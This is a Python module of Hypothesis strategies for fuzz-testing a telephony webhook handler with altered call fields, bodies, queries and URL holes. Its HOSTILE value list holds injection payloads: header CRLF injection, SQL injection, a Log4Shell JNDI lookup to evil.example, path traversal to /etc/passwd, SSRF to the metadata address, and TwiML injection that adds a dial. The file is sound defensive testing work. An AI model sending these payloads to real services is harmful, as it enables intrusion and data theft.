"""What may happen in a story: calls as the network makes them, and what is changed on the way.

Drawn by hypothesis, so that a story that fails is made small by itself.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum

from hypothesis import strategies as st

from tests.support.sample_desk import CALLER, DUTY, DUTY_1, SUPPORT, SWITCHBOARD
from tests.tools.fuzz.two_desks import other

THE_OTHER_CALL = "the other call"  # its sid is put in when it is sent
HOSTILE_HOST = "http://127.0.0.1:{port}/secret"  # a listener that nobody may ask


class Do(StrEnum):
    """One step of a story."""

    CALL = "somebody calls"
    GO_ON = "the network does what the last document says"
    AGAIN = "an earlier post comes again"
    ANYWHERE = "a post to any door"


class How(StrEnum):
    """How a body is sent."""

    FORM = "form"
    CHUNKED = "form in chunks"
    MULTIPART = "multipart"
    JSON = "json"
    TEXT = "form as plain text"
    HUGE = "form above the limit"
    UNSIGNED = "form without a signature"
    BADLY_SIGNED = "form with another account's signature"
    GET = "GET"
    PUT = "PUT"


class Op(StrEnum):
    """What is done to a field."""

    SET = "set"
    ADD = "add"  # beside its twin
    DROP = "drop"


@dataclass(frozen=True)
class Change:
    """One field that is not as the network would send it."""

    op: Op
    name: str
    value: str


@dataclass(frozen=True)
class Step:
    """One post. `pick` and `choice` count through what there is to choose from at that moment."""

    do: Do
    pick: int = 0
    choice: int = 0
    changes: tuple[Change, ...] = ()
    how: How = How.FORM
    query: str = ""
    hole: object = None  # what fills an open place in a door's address


@dataclass(frozen=True)
class Story:
    """Some steps of an honest call, and then these."""

    line: str
    caller: str
    moment: str
    choices: tuple[int, ...]
    steps: tuple[Step, ...]


NAMES = (
    "CallSid", "AccountSid", "From", "To", "CallStatus", "Direction", "ParentCallSid", "Digits",
    "FinishedOnKey", "DialBridged", "DialCallStatus", "DialCallSid", "DialCallDuration",
    "QueueTime", "QueueResult", "RecordingSid", "RecordingDuration", "RecordingStatus",
    "RecordingUrl", "MessageSid", "MessageStatus", "SmsStatus", "ErrorCode", "ErrorUrl", "Body",
    "NumMedia", "MediaUrl0", "ExchangeMoment", "Timestamp", "SequenceNumber", "ForwardedFrom",
    "CallerName", "measure", "heard", "", "æøå", "X" * 300,
)  # fmt: skip
TELLING = (
    "1", "2", "3", "4", "0", "8", "9", "*", "#", "11", "9001#", "1001", "hangup", "completed",
    "no-answer", "busy", "failed", "canceled", "ringing", "in-progress", "answered", "true",
    "false", "bridged", "leave", "queue-full", "absent", "delivered", "undelivered", "11200",
    "inbound", "outbound-api", "outbound-dial", THE_OTHER_CALL, SUPPORT, DUTY, other(DUTY),
    DUTY_1, CALLER, "anonymous", "+266696687", "client:nobody", "sip:a@b.example", "+4720000999",
)  # fmt: skip
HOSTILE = (
    "", " ", "\x00", "1\x00", "\r\nX-Evil: 1", "\ud800", "\udcff\udcfe", "\ufffe\uffff", "\ufeff1",
    "١٢٣", "１", "²", "१", "\u202e1", "a\u0301" * 50, "👩‍👩‍👧‍👦" * 20, "𝟏", "ß" * 100, "%31",
    "%00", "+",
    "-1", "-0", "0.5", "1e400", "nan", "inf", "1_0", "0x1", "9" * 400, "-" + "9" * 50, "1" * 10_240,
    "<Hangup/>", "]]>", "&amp;", "<!--", '"/><Dial>+4749009999</Dial>', "<?xml", "&lol;",
    "' or 1=1 --",
    "%s%n", "{ticket.number}", "{0.__class__}", "${jndi:ldap://evil.example}", "../../etc/passwd",
    "..", ".", "/", "CON", "C" * 65, "+" + "9" * 99, "00" * 40, "*" * 33, "\t1\n",
    HOSTILE_HOST, "http://169.254.169.254/latest", "file:///etc/passwd", "gopher://127.0.0.1:25/",
    "https://[", "/twilio/voice/turn/1", "https://vakt.example.org/twilio/voice/turn/1",
    "0001-01-01T00:00:00+00:00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59+00:00",
    "9999-12-31T23:59:59-14:00", "1969-12-31T23:59:59Z", "2026-10-25T02:30:00+02:00",
    "2027-03-28T02:30:00+01:00", "2026-02-30T00:00:00Z", "2026-11-21T23:10", "2026-W47-6T10:00Z",
)  # fmt: skip
HOLES = (
    0, 1, 2, 3, 50, 99, 100, 9999, 10_000, -1, 2**63, 10**40, "1.0", "١", "x", "", "%00", "..",
    "a%2Fb", "é", THE_OTHER_CALL, "CA" + "f" * 63,
)  # fmt: skip
QUERIES = (
    "", "", "", "measure=1", "heard=nothing", "heard=nothing&measure=1", "a=%ff%00", "[", "=",
    "bodySHA256=0", "&" * 40, "CallSid=CA1",
)  # fmt: skip
MOMENTS = (
    "2026-11-21T22:10:00+00:00", "2026-11-18T09:00:00+00:00", "2026-12-24T19:00:00+00:00",
    "2026-10-25T00:59:59+00:00", "2027-03-28T00:59:59+00:00", "",
)  # fmt: skip
NOBODY = ("", "anonymous", "+266696687", "04900", "+46701740605", "sip:x@y.example")

VALUES = st.one_of(
    st.sampled_from(TELLING),
    st.sampled_from(TELLING),
    st.sampled_from(HOSTILE),
    st.text(max_size=12),
)
CHANGES = st.builds(Change, st.sampled_from(Op), st.sampled_from(NAMES), VALUES)
# Mostly one change, so that a story gets on; the first ones are what it becomes when made small.
FEW = st.one_of(
    st.just(()),
    st.tuples(CHANGES),
    st.lists(CHANGES, max_size=5).map(tuple),
)
DOS = st.sampled_from([Do.GO_ON, Do.GO_ON, Do.GO_ON, Do.CALL, Do.AGAIN, Do.ANYWHERE, Do.ANYWHERE])
HOWS = st.sampled_from([How.FORM] * 20 + list(How))
STEPS = st.builds(
    Step,
    do=DOS,
    pick=st.integers(0, 30),
    choice=st.integers(0, 40),
    changes=FEW,
    how=HOWS,
    query=st.sampled_from(QUERIES),
    hole=st.sampled_from(HOLES),
)
LINES = st.sampled_from([DUTY, SUPPORT, other(DUTY), other(SUPPORT)])
STORIES = st.builds(
    Story,
    line=LINES,
    # A number that nobody has called from (it is put in when it is sent), a customer's, or none.
    caller=st.sampled_from(["new", "new", "new", "new", CALLER, SWITCHBOARD, *NOBODY]),
    moment=st.sampled_from(MOMENTS),
    choices=st.lists(st.integers(0, 40), max_size=8).map(tuple),
    steps=st.lists(STEPS, min_size=1, max_size=16).map(tuple),
)
